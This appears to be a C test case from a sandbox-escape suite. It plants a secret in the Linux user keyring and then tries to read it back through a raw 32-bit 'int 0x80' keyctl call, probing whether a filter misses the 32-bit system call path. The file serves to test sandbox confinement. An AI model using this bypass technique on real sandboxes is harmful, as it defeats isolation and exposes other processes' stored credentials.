/* Reads a host's key by a 32-bit system call, which another filter would have to see. */
#include "attack.h"
#include <linux/keyctl.h>

#define USER_KEYRING -4
#define USER_SESSION_KEYRING -5
#define SESSION_KEYRING -3

/* A key in the user's keyring, readable for its owner's other processes. */
void victim(void) {
    char name[64];
    snprintf(name, sizeof name, "fvm-escape-%d", getpid());
    long key = syscall(SYS_add_key, "user", name, SECRET, strlen(SECRET), USER_KEYRING);
    if (key < 0 && errno == ENOSYS) {
        puts("absent: no keyrings");
        return;
    }
    MAKE(key);
    /* To possess it, whatever the session: in a session of its own. */
    MAKE(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
    MAKE(syscall(SYS_keyctl, KEYCTL_LINK, USER_KEYRING, SESSION_KEYRING));
    MAKE(syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f0000));
    MAKE(syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, 600));
    ready("%ld %s", key, name);
    wait_for_end();
}
void attack(int n, char **word) {
    (void)n;
#ifdef __x86_64__
    /* Below 4 GiB, where a 32-bit call can point to. */
    char *text = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    TRY(text == MAP_FAILED ? -1 : 0);
    long result;
    __asm__ volatile("int $0x80" : "=a"(result)
                     : "a"(288L /* keyctl */), "b"((long)KEYCTL_READ), "c"((long)atoi(word[0])), "d"(text), "S"(64L)
                     : "memory", "r8", "r9", "r10", "r11");
    if (result > 0 && !strncmp(text, SECRET, strlen(SECRET))) reached();
    errno = (int)-result;
    refused_call("int80_keyctl");
#else
    (void)word;
    absent("no 32-bit calls");
#endif
}
